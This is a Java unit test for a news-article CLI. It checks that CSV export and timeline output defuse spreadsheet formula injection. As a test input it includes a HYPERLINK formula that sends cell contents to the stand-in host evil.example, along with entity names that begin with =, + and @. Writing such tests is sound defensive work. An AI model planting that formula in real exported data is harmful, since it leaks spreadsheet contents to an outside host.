package org.dossier.cli;

import org.dossier.model.Article;
import org.dossier.model.ArticleRecord;
import org.dossier.model.Entity;
import org.dossier.model.EntityType;
import org.dossier.model.Event;
import org.dossier.model.EventType;
import org.dossier.model.Factuality;
import org.dossier.model.Participant;
import org.dossier.model.Span;
import org.dossier.pipeline.FakePipelines;
import org.dossier.store.StoreLocation;
import org.dossier.store.jdbc.JdbcStore;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Path;
import java.time.Clock;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * CSV formula injection (issue 15, item 8): an article whose entity names, URL and sentence start with formulas goes
 * out of {@code export --format csv} and {@code timeline --format csv} with every such field
 * defused; no CSV line has a field that starts with {@code =}, {@code +}, {@code -} or {@code @}.
 */
class CsvFormulaTest {

    private static final String EVIL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";

    @TempDir
    Path dir;
    private String db;
    private StringWriter out;
    private StringWriter err;

    @BeforeEach
    void store() {
        db = dir.resolve("q.db").toString();
        String text = "@Ortiz met +Dahl in =Oslo.";
        Entity ortiz = new Entity("E1", EntityType.PERSON, null, "@Ortiz", List.of(), List.of(), List.of(at(text, "@Ortiz")));
        Entity dahl = new Entity("E2", EntityType.PERSON, null, "+Dahl", List.of(), List.of(), List.of(at(text, "+Dahl")));
        Entity oslo = new Entity("E3", EntityType.LOCATION, null, "=Oslo", List.of(), List.of(), List.of(at(text, "=Oslo")));
        Event met = new Event("V1", EventType.MEETING, "04", "meet", at(text, "met"), 0,
                List.of(new Participant("E1", "source"), new Participant("E2", "target")), "E3", "2025-01-02", null,
                Factuality.ASSERTED, null);
        ArticleRecord r = new ArticleRecord(new Article("a1", "-title", "Wire", EVIL, "2025-01-02", "en", text, "a1"),
                JdbcStore.sha256(text), List.of(ortiz, dahl, oslo), List.of(), List.of(), List.of(), List.of(met), List.of());
        try (JdbcStore s = JdbcStore.open(new StoreLocation.Sqlite(Path.of(db)), Clock.systemUTC())) {
            s.put(r);
        }
    }

    private static Span at(String text, String what) {
        int i = text.indexOf(what);
        return Span.of(text, i, i + what.length());
    }

    private int run(String... args) {
        out = new StringWriter();
        err = new StringWriter();
        CommandLine cl = new CommandLine(new Main(), new CommandLine.IFactory() {
            @Override
            public <K> K create(Class<K> cls) throws Exception {
                if (cls == TimelineCommand.class) {
                    return cls.cast(new TimelineCommand(() -> FakePipelines.capitalized(0)));
                }
                return CommandLine.defaultFactory().create(cls);
            }
        });
        cl.setOut(new PrintWriter(out, true));
        cl.setErr(new PrintWriter(err, true));
        return cl.execute(args);
    }

    /** Every field of every line, unquoted: none may start a formula. */
    private static void noFormula(String csv) {
        for (String line : csv.split("\r\n")) {
            for (String field : line.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")) {
                String f = field.startsWith("\"") ? field.substring(1) : field;
                assertThat(f).as("a field of: " + line).doesNotStartWith("=").doesNotStartWith("+")
                        .doesNotStartWith("@").doesNotStartWith("\t");
                if (f.startsWith("-")) {
                    assertThat(f).matches("-\\d+(\\.\\d+)?");
                }
            }
        }
    }

    @Test
    void theEventsExportDefusesEveryFormula() {
        assertThat(run("export", "--format", "csv", "--db", db)).as(err.toString()).isZero();
        assertThat(out.toString()).contains("'@Ortiz").contains("'+Dahl").contains("'=Oslo").contains("\"'=HYPERLINK(");
        noFormula(out.toString());
    }

    @Test
    void theStoreTimelineDefusesEveryFormula() {
        assertThat(run("timeline", "--format", "csv", "--db", db)).as(err.toString()).isZero();
        assertThat(out.toString()).contains("'@Ortiz").contains("'=Oslo");
        noFormula(out.toString());
    }
}
